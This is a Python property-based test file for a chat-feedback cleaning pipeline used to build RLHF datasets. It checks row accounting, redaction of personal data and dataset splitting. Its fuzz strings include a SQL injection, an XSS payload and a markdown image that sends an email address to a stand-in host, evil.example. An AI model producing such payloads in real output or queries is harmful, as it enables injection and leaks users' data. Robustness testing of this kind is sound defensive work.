"""Whatever the rows are: clean and quarantined are the raw rows, each once (1,000 times with
`--hypothesis-profile=faults`).
"""

from datetime import timedelta

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from rlhf_assets.feedback.clean import Extraction, adds_up, clean_week
from rlhf_assets.feedback.read import RAW_SCHEMA
from rlhf_assets.feedback.rules import RULES
from rlhf_assets.feedback.settings import CleaningSettings, SplitSettings
from rlhf_assets.feedback.split import build_dataset
from rlhf_assets.reward.inputs import pair
from rlhf_assets_tests.feedback.votes import START, WEEK, frame, identity, vote

NASTY = (
    "",
    "\x00",
    "\x1b[2J",
    "\u202eright to left",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\ufffd" * 30,
    '{"a": [1, {"b": null}]}',
    "'; drop table chat_feedback; --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=ann@example.org)",
    "call 617-253-1000 or 4111 1111 1111 1111",
    "a@" * 1_000,
    "1 " * 1_000,
    "word " * 200_000,  # a megabyte
)
TEXT = st.one_of(st.none(), st.sampled_from(NASTY), st.text(max_size=60))
CONVERSATION = st.one_of(
    st.just("[]"),
    TEXT,
    st.lists(st.text(max_size=20), max_size=3).map(lambda steps: pd.io.json.ujson_dumps(steps)),
    st.just('[{"role": "user", "content": "I am ann@example.org, 617-253-1000"}]'),
    st.just("[" + ", ".join(['"step of a thousand"'] * 1_000) + "]"),
)
MOMENT = st.timedeltas(timedelta(0), timedelta(days=7) - timedelta(microseconds=1)).map(lambda offset: START + offset)
WHEN = st.one_of(MOMENT, st.sampled_from([START, START + timedelta(days=1)]))
ANY_TIME = st.one_of(st.none(), WHEN, st.sampled_from([START - timedelta(days=90_000), START + timedelta(days=90_000)]))
SOMEBODY = st.one_of(st.none(), st.sampled_from([identity(n) for n in range(3)]), st.text(max_size=5))
POINTS = st.one_of(st.none(), st.integers(-1, 6), st.floats(), st.just(float("nan")))

ROW = st.fixed_dictionaries(
    {
        "created_at": WHEN,
        "user_id": SOMEBODY,
        "segment": TEXT,
        "kind": st.sampled_from(["message", "message", "step", "", None]),
        "chat_id": SOMEBODY,
        "message_id": SOMEBODY,
        "step_id": SOMEBODY,
        "message_role": st.sampled_from(["assistant", "assistant", "user", "", None]),
        "query": TEXT,
        "context": CONVERSATION,
        "system_prompt": TEXT,
        "response": TEXT,
        "steps_before": CONVERSATION,
        "step_order": st.one_of(st.none(), st.integers(-5, 1_000)),
        "feedback": st.one_of(st.sampled_from(["positive", "negative", None]), TEXT),
        "feedback_score": POINTS,
        "model_version": TEXT,
        "message_created_at": ANY_TIME,
    }
)
SETTINGS = st.builds(
    CleaningSettings,
    personal_data=st.sampled_from(["redact", "quarantine", "keep"]),
    one_button_votes=st.just(2),
    fast_answers=st.just(2),
    brigade_accounts=st.just(2),
    minimum_characters=st.sampled_from([1, 12]),
)


@given(
    rows=st.lists(ROW, max_size=8), past=st.lists(ROW, max_size=4), settings=SETTINGS, read=st.one_of(st.none(), WHEN)
)
def test_each_row_ends_in_exactly_one_of_both_with_its_content(
    rows: list[dict], past: list[dict], settings: CleaningSettings, read: object
) -> None:
    raw, lookback = votes_of(rows, timedelta(0)), votes_of(past, timedelta(days=7))
    extractions = {kind: Extraction(kind, read) for kind in ("message", "step")} if read else None
    result = clean_week(raw, lookback, settings, extractions)

    assert adds_up(raw, result)
    both = pd.concat([result.clean.assign(clean=True), result.quarantined.assign(clean=False)])
    both = both.sort_values(["created_at", "vote_id"], ignore_index=True)
    said = ["query", "response", "context", "steps_before"]
    redacted = {"redact": [*said, "system_prompt"], "quarantine": ["system_prompt"]}.get(settings.personal_data, [])
    pd.testing.assert_frame_equal(both[RAW_SCHEMA.names].drop(columns=redacted), raw.drop(columns=redacted))
    refused = ~both["clean"]
    pd.testing.assert_frame_equal(both.loc[refused, redacted], raw.loc[refused, redacted])
    for frame_, missing in ((result.clean, ()), (result.quarantined, ("source",))):
        assert frame_[["created_at", "vote_id"]].apply(tuple, axis=1).is_monotonic_increasing or frame_.empty
        assert not frame_[[c for c in frame_ if c not in RAW_SCHEMA.names and c not in missing]].isna().any(axis=None)
    assert result.clean["score"].between(0, 1).all()
    assert (pd.concat([result.clean["week"], result.quarantined["week"]]) == WEEK).all()
    known = {(rule.reason, rule.name, rule.version) for rule in RULES}
    assert set(result.quarantined[["reason", "rule", "rule_version"]].itertuples(index=False, name=None)) <= known


@given(rows=st.lists(ROW, max_size=8), settings=SETTINGS)
def test_what_is_clean_can_be_split_and_read(rows: list[dict], settings: CleaningSettings) -> None:
    clean = clean_week(votes_of(rows, timedelta(0)), frame(), settings).clean
    dataset = build_dataset(clean, SplitSettings(), WEEK)
    assert sum(map(len, dataset.sides().values())) + len(dataset.conflicts) + dataset.superseded == len(clean)
    for row in clean.itertuples():
        assert all(pair(row.query, row.response, row.context, row.steps_before))


def votes_of(rows: list[dict], before: timedelta) -> pd.DataFrame:
    """Raw rows with ids of their own, so long before the week that they were drawn for."""
    moved = (row | {"created_at": row["created_at"] - before} for row in rows)
    return frame(*(vote(i, **row | {"vote_id": identity((before, i))}) for i, row in enumerate(moved)))
